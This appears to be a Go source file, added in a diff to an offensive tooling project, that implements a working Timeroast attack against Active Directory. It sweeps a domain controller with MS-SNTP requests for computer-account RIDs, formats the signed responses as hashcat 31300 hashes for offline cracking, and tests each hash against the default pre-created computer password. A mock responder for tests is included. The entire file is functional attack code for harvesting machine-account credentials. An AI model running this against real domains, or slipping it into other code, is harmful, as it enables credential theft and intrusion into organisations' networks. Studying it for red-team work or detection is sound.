@@ -0,0 +1,357 @@
+package krb
+
+import (
+	"bytes"
+	"crypto/md5"
+	"encoding/binary"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"log"
+	"net"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/thechosenone-shall-prevail/cold-relay/pkg/ingest"
+)
+
+// HashTypeTimeroast is an MS-SNTP response MAC, hashcat mode 31300.
+const HashTypeTimeroast = "timeroast"
+
+const (
+	sntpPacketLen = 68 // 48-byte NTP header, key identifier, MD5 MAC
+	sntpOldKey    = 1 << 31
+	ntpEpochDelta = 2208988800 // seconds from 1900 to 1970
+)
+
+// TimeroastHash is one MS-SNTP answer: the DC signs its NTP response with
+// the NT hash of the computer account whose RID the request named, so the
+// MAC cracks offline like any salted MD5 (hashcat -m 31300).
+type TimeroastHash struct {
+	RID     uint32 `json:"rid"`
+	Account string `json:"account,omitempty"`
+	// OldPassword is set when the MAC is keyed by the account's previous
+	// password.
+	OldPassword bool   `json:"old_password,omitempty"`
+	Hash        string `json:"hash"`
+	// Password is set when a guess (the pre-created default, or a wordlist
+	// entry) was verified against the MAC.
+	Password string `json:"password,omitempty"`
+	// PreCreated means the password is still the one set when the account
+	// was pre-created: the computer name in lower case.
+	PreCreated bool `json:"pre_created,omitempty"`
+}
+
+// TimeroastOptions controls Timeroast.
+type TimeroastOptions struct {
+	// Interval is the gap between two requests, default 10ms. The DC
+	// answers every request, so a sweep is rate-limited by the sender.
+	Interval time.Duration
+	// Timeout is how long to wait for answers after the last request,
+	// default 3s.
+	Timeout time.Duration
+	// OldPasswords asks for MACs keyed by the previous passwords instead.
+	OldPasswords bool
+}
+
+// sntpRequest builds an NTP client request with an MS-SNTP authenticator
+// naming rid; the MAC is left zero, which asks the DC to sign its answer.
+func sntpRequest(rid uint32, old bool, now time.Time) []byte {
+	b := make([]byte, sntpPacketLen)
+	b[0] = 0xdb // LI 3 (unsynchronised), version 3, mode 3 (client)
+	b[2] = 0x11 // poll
+	b[3] = 0xe9 // precision
+	binary.BigEndian.PutUint32(b[8:], 0x00010000)
+	binary.BigEndian.PutUint64(b[40:], ntpTimestamp(now))
+	key := rid
+	if old {
+		key |= sntpOldKey
+	}
+	binary.LittleEndian.PutUint32(b[48:], key)
+	return b
+}
+
+func ntpTimestamp(t time.Time) uint64 {
+	secs := uint64(t.Unix() + ntpEpochDelta)
+	frac := uint64(t.Nanosecond()) << 32 / uint64(time.Second)
+	return secs<<32 | frac
+}
+
+// ParseSNTPResponse reads the RID and MAC from a signed MS-SNTP response
+// and formats them for hashcat: $sntp-ms$<MAC>$<NTP header>.
+func ParseSNTPResponse(b []byte) (TimeroastHash, error) {
+	if len(b) != sntpPacketLen {
+		return TimeroastHash{}, fmt.Errorf("MS-SNTP response is %d bytes, want %d", len(b), sntpPacketLen)
+	}
+	if mode := b[0] & 0x7; mode != 4 {
+		return TimeroastHash{}, fmt.Errorf("NTP mode %d is not a server response", mode)
+	}
+	key := binary.LittleEndian.Uint32(b[48:52])
+	mac := b[52:]
+	if bytes.Equal(mac, make([]byte, len(mac))) {
+		return TimeroastHash{}, fmt.Errorf("response for RID %d is not signed", key&^sntpOldKey)
+	}
+	return TimeroastHash{
+		RID:         key &^ sntpOldKey,
+		OldPassword: key&sntpOldKey != 0,
+		Hash:        "$sntp-ms$" + hex.EncodeToString(mac) + "$" + hex.EncodeToString(b[:48]),
+	}, nil
+}
+
+// sntpMAC is the MS-SNTP signature: MD5(NT hash || NTP header).
+func sntpMAC(ntHash, header []byte) []byte {
+	sum := md5.Sum(append(append([]byte(nil), ntHash...), header...))
+	return sum[:]
+}
+
+// SNTPHash is a $sntp-ms$ hash taken apart.
+type SNTPHash struct {
+	MAC    []byte
+	Header []byte // the NTP header the MAC covers
+}
+
+// ParseSNTPHash reads the hashcat 31300 format ParseSNTPResponse writes.
+func ParseSNTPHash(hash string) (SNTPHash, error) {
+	rest, ok := strings.CutPrefix(hash, "$sntp-ms$")
+	if !ok {
+		return SNTPHash{}, fmt.Errorf("not a $sntp-ms$ hash")
+	}
+	macHex, headerHex, ok := strings.Cut(rest, "$")
+	if !ok {
+		return SNTPHash{}, fmt.Errorf("hash has no NTP header")
+	}
+	mac, err := hex.DecodeString(macHex)
+	if err != nil || len(mac) != md5.Size {
+		return SNTPHash{}, fmt.Errorf("MAC: want %d hex bytes", md5.Size)
+	}
+	header, err := hex.DecodeString(headerHex)
+	if err != nil || len(header) != 48 {
+		return SNTPHash{}, fmt.Errorf("NTP header: want 48 hex bytes")
+	}
+	return SNTPHash{MAC: mac, Header: header}, nil
+}
+
+// Verify reports whether ntHash, the account's RC4 key, keyed the MAC.
+func (h SNTPHash) Verify(ntHash []byte) bool {
+	return bytes.Equal(sntpMAC(ntHash, h.Header), h.MAC)
+}
+
+// CheckTimeroastPassword reports whether password is the one that keyed a
+// $sntp-ms$ hash.
+func CheckTimeroastPassword(hash, password string) bool {
+	h, err := ParseSNTPHash(hash)
+	if err != nil {
+		return false
+	}
+	nt, err := hex.DecodeString(ntHashFromPassword(password))
+	if err != nil {
+		return false
+	}
+	return h.Verify(nt)
+}
+
+// PreCreatedComputerPassword is the password Windows gives a computer
+// account pre-created with "Assign this computer account as a pre-Windows
+// 2000 computer": the name, lower case, without the $, cut to 14 characters.
+func PreCreatedComputerPassword(samAccountName string) string {
+	name := strings.ToLower(strings.TrimSuffix(samAccountName, "$"))
+	if len(name) > 14 {
+		name = name[:14]
+	}
+	return name
+}
+
+// Timeroast sends one MS-SNTP request per RID to server (host or host:port,
+// UDP 123 by default) and returns the signed answers in RID order. RIDs
+// that are not computer or trust accounts get no answer and are left out.
+func Timeroast(server string, rids []uint32, opts TimeroastOptions) ([]TimeroastHash, error) {
+	if opts.Interval <= 0 {
+		opts.Interval = 10 * time.Millisecond
+	}
+	if opts.Timeout <= 0 {
+		opts.Timeout = 3 * time.Second
+	}
+	if _, _, err := net.SplitHostPort(server); err != nil {
+		server = net.JoinHostPort(server, "123")
+	}
+	conn, err := net.Dial("udp", server)
+	if err != nil {
+		return nil, fmt.Errorf("MS-SNTP: %v", err)
+	}
+	defer conn.Close()
+	conn.SetReadDeadline(time.Now().Add(opts.Timeout))
+
+	var mu sync.Mutex
+	answers := make(map[uint32]TimeroastHash)
+	var readErr error
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		buf := make([]byte, 512)
+		for {
+			n, err := conn.Read(buf)
+			if err != nil {
+				var ne net.Error
+				if !errors.As(err, &ne) || !ne.Timeout() {
+					mu.Lock()
+					readErr = err
+					mu.Unlock()
+				}
+				return
+			}
+			h, err := ParseSNTPResponse(buf[:n])
+			if err != nil {
+				continue
+			}
+			mu.Lock()
+			answers[h.RID] = h
+			mu.Unlock()
+		}
+	}()
+
+	for i, rid := range rids {
+		if i > 0 {
+			time.Sleep(opts.Interval)
+		}
+		if _, err := conn.Write(sntpRequest(rid, opts.OldPasswords, time.Now())); err != nil {
+			log.Printf("[!] MS-SNTP request for RID %d: %v", rid, err)
+		}
+		conn.SetReadDeadline(time.Now().Add(opts.Timeout))
+	}
+	<-done
+
+	hashes := make([]TimeroastHash, 0, len(answers))
+	for _, rid := range rids {
+		if h, ok := answers[rid]; ok {
+			hashes = append(hashes, h)
+			delete(answers, rid)
+		}
+	}
+	if len(hashes) == 0 && readErr != nil {
+		return nil, fmt.Errorf("MS-SNTP: %v", readErr)
+	}
+	return hashes, nil
+}
+
+// Timeroast sweeps the DC with the RIDs of computers and labels the
+// answers with their accounts; see TimeroastComputers.
+func (c *LDAPClient) Timeroast(domain string, computers []ingest.Computer, opts TimeroastOptions) ([]TimeroastHash, error) {
+	domainInfo, err := c.GetDomainInfo()
+	if err != nil {
+		domainInfo = &DomainInfo{DomainName: domain}
+	}
+	realm := domainInfo.DomainName
+	if realm == "" {
+		realm = domain
+	}
+	dc, err := ResolveKDCHost(c.ldapHost, c.kdcOverride, domainInfo.DNSHostName, strings.ToLower(realm))
+	if err != nil {
+		return nil, err
+	}
+	return TimeroastComputers(dc, computers, opts)
+}
+
+// TimeroastComputers sends an MS-SNTP request for every computer with an
+// objectSid and checks each answer against the pre-created default
+// password, which is verified offline on the spot.
+func TimeroastComputers(server string, computers []ingest.Computer, opts TimeroastOptions) ([]TimeroastHash, error) {
+	byRID := make(map[uint32]string, len(computers))
+	rids := make([]uint32, 0, len(computers))
+	for _, c := range computers {
+		rid := ingest.RIDFromSID(c.ObjectSID)
+		if rid <= 0 {
+			continue
+		}
+		if _, dup := byRID[uint32(rid)]; dup {
+			continue
+		}
+		byRID[uint32(rid)] = c.SamAccountName
+		rids = append(rids, uint32(rid))
+	}
+	if len(rids) == 0 {
+		return nil, fmt.Errorf("no computer account has an objectSid")
+	}
+
+	hashes, err := Timeroast(server, rids, opts)
+	if err != nil {
+		return nil, err
+	}
+	for i := range hashes {
+		h := &hashes[i]
+		h.Account = byRID[h.RID]
+		if guess := PreCreatedComputerPassword(h.Account); guess != "" && CheckTimeroastPassword(h.Hash, guess) {
+			h.Password, h.PreCreated = guess, true
+		}
+	}
+	return hashes, nil
+}
+
+// SNTPResponder answers MS-SNTP requests the way a DC does, signing each
+// response with the NT hash of the password registered for the RID. It
+// stands in for a DC in tests and lab checks of the timeroast encoding.
+type SNTPResponder struct {
+	conn      net.PacketConn
+	passwords map[uint32]string
+	done      chan struct{}
+}
+
+// NewSNTPResponder listens on addr (e.g. 127.0.0.1:0) and answers requests
+// for the RIDs in passwords; other RIDs are ignored, as a DC ignores RIDs
+// that are not computer accounts.
+func NewSNTPResponder(addr string, passwords map[uint32]string) (*SNTPResponder, error) {
+	conn, err := net.ListenPacket("udp", addr)
+	if err != nil {
+		return nil, err
+	}
+	r := &SNTPResponder{conn: conn, passwords: passwords, done: make(chan struct{})}
+	go r.serve()
+	return r, nil
+}
+
+// Addr is the address the responder listens on.
+func (r *SNTPResponder) Addr() string {
+	return r.conn.LocalAddr().String()
+}
+
+// Close stops the responder.
+func (r *SNTPResponder) Close() error {
+	err := r.conn.Close()
+	<-r.done
+	return err
+}
+
+func (r *SNTPResponder) serve() {
+	defer close(r.done)
+	buf := make([]byte, 512)
+	for {
+		n, from, err := r.conn.ReadFrom(buf)
+		if err != nil {
+			return
+		}
+		if n != sntpPacketLen || buf[0]&0x7 != 3 {
+			continue
+		}
+		key := binary.LittleEndian.Uint32(buf[48:52])
+		password, ok := r.passwords[key&^sntpOldKey]
+		if !ok {
+			continue
+		}
+		nt, _ := hex.DecodeString(ntHashFromPassword(password))
+
+		resp := make([]byte, sntpPacketLen)
+		now := ntpTimestamp(time.Now())
+		resp[0] = 0x1c // LI 0, version 3, mode 4 (server)
+		resp[1] = 1    // stratum
+		resp[2] = buf[2]
+		resp[3] = 0xe9
+		copy(resp[12:16], "LOCL")
+		binary.BigEndian.PutUint64(resp[16:], now)
+		copy(resp[24:32], buf[40:48]) // originate = client transmit
+		binary.BigEndian.PutUint64(resp[32:], now)
+		binary.BigEndian.PutUint64(resp[40:], now)
+		binary.LittleEndian.PutUint32(resp[48:], key)
+		copy(resp[52:], sntpMAC(nt, resp[:48]))
+		r.conn.WriteTo(resp, from)
+	}
+}